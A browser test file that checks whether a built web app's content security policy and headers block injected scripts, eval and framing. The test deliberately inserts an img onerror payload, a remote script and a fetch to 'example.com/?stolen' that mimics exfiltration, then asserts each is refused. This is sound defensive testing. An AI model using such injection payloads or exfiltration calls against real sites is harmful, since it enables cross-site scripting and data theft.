/** The built app under its own headers: nothing that was slipped into the page runs, and no other site can frame it. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { launch, openPage } from './support/browser.ts';

const appUrl = inject('appUrl');
let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

it('runs no script of the page, of text or of another site, and reaches nobody else', async () => {
  const { page, context, errors } = await openPage(browser, 'en-GB');
  const answer = await page.goto(appUrl);
  expect(answer!.headers()).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'content-security-policy': expect.stringContaining("default-src 'none'"),
  });
  await page.getByRole('button').first().waitFor();
  // The app itself keeps to its policy.
  expect(errors).toEqual([]);
  const outcome = await page.evaluate(async () => {
    const refused: string[] = [];
    addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const insert = (fill: (script: HTMLScriptElement) => void) =>
      new Promise<void>((done) => {
        const script = document.createElement('script');
        script.onload = () => done();
        script.onerror = () => done();
        fill(script);
        document.body.append(script);
        if (script.src === '') done();
      });
    await insert((script) => {
      script.textContent = 'window.slippedIn = true';
    });
    await insert((script) => {
      script.src = 'https://example.com/slipped-in.js';
    });
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.slippedIn = true">');
    const evaluated = (() => {
      try {
        return String(new Function('return 1')());
      } catch {
        return 'refused';
      }
    })();
    const sent = await fetch('https://example.com/?stolen').then(
      () => 'sent',
      () => 'refused',
    );
    await new Promise((done) => setTimeout(done, 100));
    return { refused: [...new Set(refused)].sort(), evaluated, sent, slipped: 'slippedIn' in window };
  });
  expect(outcome).toMatchObject({ evaluated: 'refused', sent: 'refused', slipped: false });
  expect(outcome.refused).toEqual(
    expect.arrayContaining(['connect-src', 'script-src', 'script-src-attr', 'script-src-elem']),
  );
  await context.close();
});

it('cannot be framed', async () => {
  const { page, context } = await openPage(browser, 'en-GB');
  await page.setContent(`<iframe src="${appUrl}"></iframe>`);
  await page.waitForTimeout(1000);
  const framed = await page.frames()[1]?.evaluate(() => document.querySelector('#root') !== null);
  expect(framed ?? false).toBe(false);
  await context.close();
});
